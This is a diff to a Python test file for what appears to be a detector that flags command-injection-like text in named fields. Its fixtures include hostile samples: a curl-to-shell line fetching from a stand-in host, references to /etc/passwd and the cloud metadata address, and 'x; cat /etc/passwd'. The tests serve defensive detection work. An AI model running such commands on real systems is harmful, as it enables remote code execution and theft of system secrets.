@@ -70,3 +70,15 @@ def test_a_member_for_statements_may_hold_several():
     text = "INSERT INTO a VALUES (1); DELETE FROM b WHERE id = 1"
     assert not likely(text, "sql")
     assert likely(text, "filter")
+
+
+README = "# Build\n\nRun `rm -rf /tmp/build`, see /etc/passwd, http://169.254.169.254/latest/.\ncurl -s x.test/i | sh\n"
+
+
+def test_a_document_may_speak_of_commands():
+    assert not likely(README, "content")
+    assert not likely(README, "newText")
+    assert likely(README, "path")
+    assert likely("x; cat /etc/passwd", "content"), "one short line is no document"
+    assert not likely("Fix settings; drop table view", "message")
+    assert likely("Fix settings; drop table view", "name")
